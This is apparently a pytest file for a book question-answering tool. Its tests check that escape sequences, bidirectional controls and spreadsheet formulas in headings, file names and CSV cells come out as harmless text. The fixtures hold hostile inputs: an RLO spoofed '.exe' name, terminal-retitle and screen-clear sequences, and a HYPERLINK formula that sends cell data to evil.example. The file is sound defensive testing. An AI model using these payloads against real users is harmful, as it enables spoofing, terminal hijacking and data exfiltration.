"""What a book or a question file holds reaches the terminal and the reports inert: escape sequences and
bidirectional controls are shown as escapes in answers, sources, notices, warnings and errors (`printable`);
`--json` keeps the text as it is, in ASCII; a CSV cell that a spreadsheet would run as a formula is written as text.

The ask.py runs share one indexed book (module scope), in subprocesses with the real MiniLM embedder and extractive
answers."""

from __future__ import annotations

import csv
import json
import logging

import pytest
from conftest import clean_env, run_script, write_book

from bookrag.cli import ScrubbingFormatter, error_line, notice
from bookrag.questions import Question
from programs.cli.evaluate import print_programs
from programs.evaluate.question_row import QuestionRow
from programs.evaluate.report_files import write_predictions_csv, write_report_json
from programs.evaluate.reports import aggregate

ESC, BEL, RLO, PDF, LRI, PDI = "\x1b", "\x07", "\u202e", "\u202c", "\u2066", "\u2069"
RAW = (ESC, BEL, RLO, PDF, LRI, PDI)
# "Limits of exe.png": U+202E shows the end of the heading reversed, so it reads as "...gnp.exe".
SPOOFED = f"Safety {RLO}gnp.exe{PDF} limits {LRI}{ESC}]0;pwned{BEL}{PDI}"
BOOK = {
    "safety.md": f"""
        # {SPOOFED}

        The quillon robot stops within 40 cm of a person.
        """,
    "gazebo.md": f"""
        # {"The tarrasque solver runs physics. " * 2_900}

        The tarrasque solver runs physics at 1000 Hz.
        """,
}


def env_for(root) -> dict[str, str]:
    return clean_env(BOOKRAG_DATA_DIR=str(root / "data"), BOOKRAG_ARTIFACTS_DIR=str(root / "artifacts"),
                     BOOKRAG_BOOK=str(root / "book"), COLUMNS="200")


@pytest.fixture(scope="module")
def indexed(tmp_path_factory):
    root = tmp_path_factory.mktemp("shown-text")
    write_book(root / "book", BOOK)
    result = run_script("ingest.py", root / "book", cwd=root, env=env_for(root), timeout=180)
    assert result.returncode == 0, result.stderr
    return root


def ask(root, *args: str):
    return run_script("ask.py", *args, cwd=root, env=env_for(root), timeout=180)


def test_a_heading_with_bidi_controls_and_escapes_shows_them_as_escapes_under_sources(indexed):
    result = ask(indexed, "Within what distance does the quillon robot stop?")
    assert result.returncode == 0, result.stderr
    assert "40 cm" in result.stdout
    assert "Safety \\u202egnp.exe\\u202c limits \\u2066\\x1b]0;pwned\\x07\\u2069" in result.stdout
    assert not any(c in result.stdout + result.stderr for c in RAW)


def test_json_keeps_the_heading_as_the_book_wrote_it_in_ascii(indexed):
    """JSON readers get the data unchanged; the terminal gets only ASCII (`\\u202e`), which acts on nothing."""
    result = ask(indexed, "Within what distance does the quillon robot stop?", "--json")
    assert result.returncode == 0, result.stderr
    assert result.stdout.isascii()
    assert json.loads(result.stdout)["citations"][0]["heading"] == SPOOFED


def test_a_100_kb_heading_is_shown_cut_under_sources_and_in_json(indexed):
    shown = ask(indexed, "How fast does the tarrasque solver run physics?")
    assert shown.returncode == 0, shown.stderr
    assert "1000 Hz" in shown.stdout and "…" in shown.stdout and len(shown.stdout) < 2_000
    as_json = ask(indexed, "How fast does the tarrasque solver run physics?", "--json")
    assert as_json.returncode == 0, as_json.stderr
    assert len(as_json.stdout) < 10_000  # was 300 KB


def test_a_file_name_with_escape_sequences_is_shown_as_escapes_in_the_book_changed_notice(tmp_path):
    """An added page named `ESC]0;pwned BEL ESC[2J.md` retitled the window and cleared the screen."""
    write_book(tmp_path / "book", {"safety.md": BOOK["safety.md"]})
    assert run_script("ingest.py", tmp_path / "book", cwd=tmp_path, env=env_for(tmp_path), timeout=180).returncode == 0
    (tmp_path / "book" / f"{ESC}]0;pwned{BEL}{ESC}[2J.md").write_text("# Added\n\nThe quillon robot is blue.\n")
    result = ask(tmp_path, "Within what distance does the quillon robot stop?", "--json")
    assert result.returncode == 0, result.stderr
    assert "The book changed since it was indexed (1 file(s): \\x1b]0;pwned\\x07\\x1b[2J.md)" in result.stderr
    assert ESC not in result.stderr and BEL not in result.stderr


def test_notices_errors_and_log_lines_show_escapes_and_bidi_controls_as_escapes(capsys):
    message, shown = f"page {RLO}dm.txt{PDF} is {ESC}[2Jnew", "page \\u202edm.txt\\u202c is \\x1b[2Jnew"
    notice(message)
    error_line(message)
    logged = ScrubbingFormatter("%(message)s").format(logging.makeLogRecord({"msg": message}))
    err = capsys.readouterr().err
    assert err.splitlines() == [shown, f"error: {shown}"] and logged == shown


def row(**fields) -> dict:
    question = Question(fields.pop("id"), fields.pop("question"), answerable=True, category=fields.pop("category"))
    return QuestionRow.of(question, **fields).to_dict()


def test_predictions_csv_writes_cells_a_spreadsheet_would_run_as_text_and_report_json_keeps_them(tmp_path):
    """`=HYPERLINK(...)` in a question ran when predictions.csv was opened in a spreadsheet (OWASP: CSV injection)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
    rows = [row(id="@SUM(1+1)", question=formula, category="+cmd", answer="-2+3", error="\tpadded"),
            row(id="q2", question="What is a node?", category="nodes", answer="A process; -1 is no answer.",
                top_dense=-0.25)]
    reports = {"zero-shot": {"rows": rows}}
    with write_predictions_csv(tmp_path / "predictions.csv", reports).open(newline="", encoding="utf-8") as handle:
        written = list(csv.DictReader(handle))
    assert [(r["id"], r["question"], r["category"], r["answer"], r["error"]) for r in written] == [
        ("'@SUM(1+1)", f"'{formula}", "'+cmd", "'-2+3", "'\tpadded"),
        ("q2", "What is a node?", "nodes", "A process; -1 is no answer.", ""),
    ]
    assert written[1]["top_dense"] == "-0.25"  # a number is no formula
    report = json.loads(write_report_json(tmp_path / "report.json", {}, reports).read_text(encoding="utf-8"))
    assert report["programs"]["zero-shot"]["rows"][0]["question"] == formula


def test_evaluate_shows_a_category_as_text_not_as_markup_or_escape_sequences(capsys):
    """A category `[/x]` stopped the run with rich's MarkupError (exit 70), after every question was answered."""
    rows = [QuestionRow.of(Question("q1", "What is a node?", answerable=True, category=f"[/x]{ESC}[2J{RLO}"),
                           passed=True, combined=1.0, answer_words=3)]
    print_programs({"zero-shot": aggregate(rows)}, {"collection": "book", "split": "test"})
    out = capsys.readouterr().out
    assert "[/x]\\x1b[2J\\u202e" in out and not any(c in out for c in RAW)
